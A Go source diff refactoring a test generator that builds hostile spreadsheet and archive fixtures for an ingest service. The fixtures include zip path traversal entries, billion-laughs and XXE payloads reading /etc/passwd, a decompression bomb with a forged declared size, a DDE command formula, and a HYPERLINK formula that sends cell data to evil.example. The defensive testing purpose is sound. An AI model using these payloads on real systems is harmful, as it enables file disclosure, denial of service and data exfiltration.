@@ -27,7 +27,6 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
-	"hash/crc32"
 	"image"
 	"image/png"
 	"io"
@@ -45,6 +44,7 @@ import (
 
 	"go.mongodb.org/mongo-driver/v2/bson"
 
+	"github.com/intake/intake/pkg/filereader/xlsxtest"
 	"github.com/intake/intake/services/ingest"
 )
 
@@ -762,33 +762,11 @@ func genRowsNearCellLimit(w io.Writer) error {
 	return nil
 }
 
-// Minimal hand-made workbook parts.
+// The workbook relationships with a shared-strings part too.
 const (
-	xContentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`
-	xRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`
-	xWorkbook = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`
-	xWorkbookRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`
 	xWorkbookRelsSST = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`
-	xSheetHead = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`
-	xSheetTail = `</sheetData></worksheet>`
 )
-
-// xRow is a sheet row of inline strings from column A.
-func xRow(n int, cells ...string) string {
-	var b strings.Builder
-	fmt.Fprintf(&b, `<row r="%d">`, n)
-	for i, c := range cells {
-		fmt.Fprintf(&b, `<c r="%c%d" t="inlineStr"><is><t>%s</t></is></c>`, 'A'+i, n, c)
-	}
-	b.WriteString("</row>")
-	return b.String()
-}
 
 type zpart struct{ name, data string }
 
@@ -810,11 +788,11 @@ func zipOf(parts ...zpart) []byte {
 
 func workbookParts(sheet string, extra ...zpart) []zpart {
 	return append([]zpart{
-		{"[Content_Types].xml", xContentTypes},
-		{"_rels/.rels", xRels},
-		{"xl/workbook.xml", xWorkbook},
-		{"xl/_rels/workbook.xml.rels", xWorkbookRels},
-		{"xl/worksheets/sheet1.xml", xSheetHead + sheet + xSheetTail},
+		{"[Content_Types].xml", xlsxtest.ContentTypes},
+		{"_rels/.rels", xlsxtest.Rels},
+		{"xl/workbook.xml", xlsxtest.Workbook},
+		{"xl/_rels/workbook.xml.rels", xlsxtest.WorkbookRels},
+		{"xl/worksheets/sheet1.xml", xlsxtest.SheetHead + sheet + xlsxtest.SheetTail},
 	}, extra...)
 }
 
@@ -822,14 +800,8 @@ func workbookParts(sheet string, extra ...zpart) []zpart {
 // stream (the sheet is never held in memory).
 func streamWorkbook(w io.Writer, sheet func(io.Writer) error) error {
 	zw := zip.NewWriter(w)
-	for _, p := range workbookParts("")[:4] {
-		fw, err := zw.Create(p.name)
-		if err != nil {
-			return err
-		}
-		if _, err := io.WriteString(fw, p.data); err != nil {
-			return err
-		}
+	if err := xlsxtest.WriteFrame(zw); err != nil {
+		return err
 	}
 	zw.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, flate.BestSpeed) })
 	fw, err := zw.Create("xl/worksheets/sheet1.xml")
@@ -837,13 +809,13 @@ func streamWorkbook(w io.Writer, sheet func(io.Writer) error) error {
 		return err
 	}
 	bw := bufio.NewWriterSize(fw, 64<<10)
-	if _, err := io.WriteString(bw, xSheetHead); err != nil {
+	if _, err := io.WriteString(bw, xlsxtest.SheetHead); err != nil {
 		return err
 	}
 	if err := sheet(bw); err != nil {
 		return err
 	}
-	if _, err := io.WriteString(bw, xSheetTail); err != nil {
+	if _, err := io.WriteString(bw, xlsxtest.SheetTail); err != nil {
 		return err
 	}
 	if err := bw.Flush(); err != nil {
@@ -854,20 +826,20 @@ func streamWorkbook(w io.Writer, sheet func(io.Writer) error) error {
 
 func genXLSXLongCell(w io.Writer) error {
 	return streamWorkbook(w, func(w io.Writer) error {
-		if _, err := io.WriteString(w, xRow(1, "name", "email")+xRow(2, "Before", "xc1@hostile.test")+`<row r="3"><c r="A3" t="inlineStr"><is><t>`); err != nil {
+		if _, err := io.WriteString(w, xlsxtest.InlineRow(1, "name", "email")+xlsxtest.InlineRow(2, "Before", "xc1@hostile.test")+`<row r="3"><c r="A3" t="inlineStr"><is><t>`); err != nil {
 			return err
 		}
 		if err := repeat(w, "A", 50<<20); err != nil {
 			return err
 		}
-		_, err := io.WriteString(w, `</t></is></c><c r="B3" t="inlineStr"><is><t>xc2@hostile.test</t></is></c></row>`+xRow(4, "After", "xc3@hostile.test"))
+		_, err := io.WriteString(w, `</t></is></c><c r="B3" t="inlineStr"><is><t>xc2@hostile.test</t></is></c></row>`+xlsxtest.InlineRow(4, "After", "xc3@hostile.test"))
 		return err
 	})
 }
 
 func genXLSXEmptyRows(w io.Writer) error {
 	return streamWorkbook(w, func(w io.Writer) error {
-		if _, err := io.WriteString(w, xRow(1, "name", "email")); err != nil {
+		if _, err := io.WriteString(w, xlsxtest.InlineRow(1, "name", "email")); err != nil {
 			return err
 		}
 		for r := 2; r <= 1_000_001; r++ {
@@ -875,7 +847,7 @@ func genXLSXEmptyRows(w io.Writer) error {
 				return err
 			}
 		}
-		_, err := io.WriteString(w, xRow(1_000_002, "Last", "xe1@hostile.test"))
+		_, err := io.WriteString(w, xlsxtest.InlineRow(1_000_002, "Last", "xe1@hostile.test"))
 		return err
 	})
 }
@@ -934,7 +906,7 @@ func genManyUsernames(w io.Writer) error {
 
 func genManyParts(w io.Writer) error {
 	zw := zip.NewWriter(w)
-	parts := workbookParts(xRow(1, "name", "email") + xRow(2, "Parts", "parts@hostile.test"))
+	parts := workbookParts(xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "Parts", "parts@hostile.test"))
 	for i := 0; i < 10000; i++ {
 		parts = append(parts, zpart{fmt.Sprintf("xl/media/part%d.xml", i), "<x/>"})
 	}
@@ -951,69 +923,10 @@ func genManyParts(w io.Writer) error {
 }
 
 // genBomb writes a workbook whose sheet unpacks to size bytes of rows while
-// the file stays about size/1000 bytes; declared (if not 0) is the size the
-// archive claims. Independently compressed, flushed pieces concatenate into
-// one valid deflate stream, so only one chunk is ever compressed.
+// the file stays a few hundred times smaller; declared (if not 0) is the size the
+// archive claims.
 func genBomb(size, declared uint64) func(io.Writer) error {
-	return func(w io.Writer) error {
-		deflate := func(data []byte, final bool) []byte {
-			var b bytes.Buffer
-			fw, _ := flate.NewWriter(&b, flate.BestCompression)
-			_, _ = fw.Write(data)
-			if final {
-				_ = fw.Close()
-			} else {
-				_ = fw.Flush()
-			}
-			return b.Bytes()
-		}
-		head := []byte(xSheetHead + xRow(1, "name", "email"))
-		tail := []byte(xSheetTail)
-		chunk := bytes.Repeat([]byte(`<row><c t="inlineStr"><is><t>x</t></is></c></row>`), (1<<20)/50)
-		repeats := (size - uint64(len(head)+len(tail))) / uint64(len(chunk))
-		total := uint64(len(head)+len(tail)) + repeats*uint64(len(chunk))
-		dc := deflate(chunk, false)
-		// The CRC of the whole part, computed once per chunk.
-		crc := crc32.Update(0, crc32.IEEETable, head)
-		for range repeats {
-			crc = crc32.Update(crc, crc32.IEEETable, chunk)
-		}
-		crc = crc32.Update(crc, crc32.IEEETable, tail)
-		dh, dt := deflate(head, false), deflate(tail, true)
-		if declared == 0 {
-			declared = total
-		}
-		zw := zip.NewWriter(w)
-		for _, p := range workbookParts("")[:4] {
-			fw, err := zw.Create(p.name)
-			if err != nil {
-				return err
-			}
-			if _, err := io.WriteString(fw, p.data); err != nil {
-				return err
-			}
-		}
-		fw, err := zw.CreateRaw(&zip.FileHeader{
-			Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: crc,
-			CompressedSize64:   uint64(len(dh)+len(dt)) + repeats*uint64(len(dc)),
-			UncompressedSize64: declared,
-		})
-		if err != nil {
-			return err
-		}
-		if _, err := fw.Write(dh); err != nil {
-			return err
-		}
-		for range repeats {
-			if _, err := fw.Write(dc); err != nil {
-				return err
-			}
-		}
-		if _, err := fw.Write(dt); err != nil {
-			return err
-		}
-		return zw.Close()
-	}
+	return func(w io.Writer) error { return xlsxtest.WriteBomb(w, size, declared) }
 }
 
 // ---- the committed files ----
@@ -1054,19 +967,19 @@ func hostileFiles() map[string][]byte {
 	}
 	sstParts := func(doctype, text string) []zpart {
 		return []zpart{
-			{"[Content_Types].xml", xContentTypes},
-			{"_rels/.rels", xRels},
-			{"xl/workbook.xml", xWorkbook},
+			{"[Content_Types].xml", xlsxtest.ContentTypes},
+			{"_rels/.rels", xlsxtest.Rels},
+			{"xl/workbook.xml", xlsxtest.Workbook},
 			{"xl/_rels/workbook.xml.rels", xWorkbookRelsSST},
 			{"xl/sharedStrings.xml", withDoctype(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+
 				`<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>email</t></si><si><t>`+text+`</t></si></sst>`, doctype)},
-			{"xl/worksheets/sheet1.xml", xSheetHead + `<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="s"><v>0</v></c></row>` +
-				`<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="inlineStr"><is><t>bls@hostile.test</t></is></c></row>` + xSheetTail},
+			{"xl/worksheets/sheet1.xml", xlsxtest.SheetHead + `<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="s"><v>0</v></c></row>` +
+				`<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="inlineStr"><is><t>bls@hostile.test</t></is></c></row>` + xlsxtest.SheetTail},
 		}
 	}
 
-	truncated := zipOf(workbookParts(xRow(1, "name", "email") + xRow(2, "Trunc", "trunc@hostile.test") +
-		xRow(3, strings.Repeat("padding ", 200), "trunc2@hostile.test"))...)
+	truncated := zipOf(workbookParts(xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "Trunc", "trunc@hostile.test") +
+		xlsxtest.InlineRow(3, strings.Repeat("padding ", 200), "trunc2@hostile.test"))...)
 	truncated = truncated[:len(truncated)/2]
 
 	return map[string][]byte{
@@ -1157,7 +1070,7 @@ func hostileFiles() map[string][]byte {
 			[]string{"hp6@hostile.test", "", `{"n":{"v":9007199254740993}}`},
 		),
 		"truncated.xlsx": truncated,
-		"zip_traversal.xlsx": zipOf(workbookParts(xRow(1, "name", "email")+xRow(2, "Zip Traversal", "zt1@hostile.test"),
+		"zip_traversal.xlsx": zipOf(workbookParts(xlsxtest.InlineRow(1, "name", "email")+xlsxtest.InlineRow(2, "Zip Traversal", "zt1@hostile.test"),
 			zpart{"../../etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"},
 			zpart{"/tmp/hostile-abs.txt", "absolute"},
 			zpart{`..\..\hostile-win.txt`, "backslashes"},
@@ -1166,16 +1079,16 @@ func hostileFiles() map[string][]byte {
 		"zip_not_workbook.xlsx":   zipOf(zpart{"../../etc/passwd", "root:x:0:0\n"}, zpart{"../evil.sh", "#!/bin/sh\n"}),
 		"billion_laughs_sst.xlsx": zipOf(sstParts(laughs, "&lol9;")...),
 		"billion_laughs_sheet.xlsx": zipOf(append(workbookParts("")[:4:4],
-			zpart{"xl/worksheets/sheet1.xml", withDoctype(xSheetHead, laughs) + xRow(1, "name", "email") + xRow(2, "&lol9;", "bl1@hostile.test") + xSheetTail})...),
+			zpart{"xl/worksheets/sheet1.xml", withDoctype(xlsxtest.SheetHead, laughs) + xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "&lol9;", "bl1@hostile.test") + xlsxtest.SheetTail})...),
 		"xxe.xlsx": zipOf(append(workbookParts("")[:4:4],
-			zpart{"xl/worksheets/sheet1.xml", withDoctype(xSheetHead, `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`) +
-				xRow(1, "name", "email") + xRow(2, "&xxe;", "xxe1@hostile.test") + xSheetTail})...),
-		"xlsx_formulas.xlsx": zipOf(workbookParts(xRow(1, "name", "email", "company") +
+			zpart{"xl/worksheets/sheet1.xml", withDoctype(xlsxtest.SheetHead, `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`) +
+				xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "&xxe;", "xxe1@hostile.test") + xlsxtest.SheetTail})...),
+		"xlsx_formulas.xlsx": zipOf(workbookParts(xlsxtest.InlineRow(1, "name", "email", "company") +
 			`<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;B2,"click")</f><v>click</v></c>` +
 			`<c r="B2" t="inlineStr"><is><t>xf1@hostile.test</t></is></c><c r="C2" t="inlineStr"><is><t>=cmd|' /C calc'!A0</t></is></c></row>` +
 			`<row r="3"><c r="A3"><f>1+1</f></c><c r="B3" t="inlineStr"><is><t>xf2@hostile.test</t></is></c><c r="C3" t="inlineStr"><is><t>@SUM(1+1)</t></is></c></row>`)...),
 		"xlsx_wide_header.xlsx": zipOf(workbookParts(`<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="inlineStr"><is><t>email</t></is></c>` +
-			`<c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>` + xRow(2, "Wide", "xw1@hostile.test"))...),
+			`<c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>` + xlsxtest.InlineRow(2, "Wide", "xw1@hostile.test"))...),
 	}
 }
 
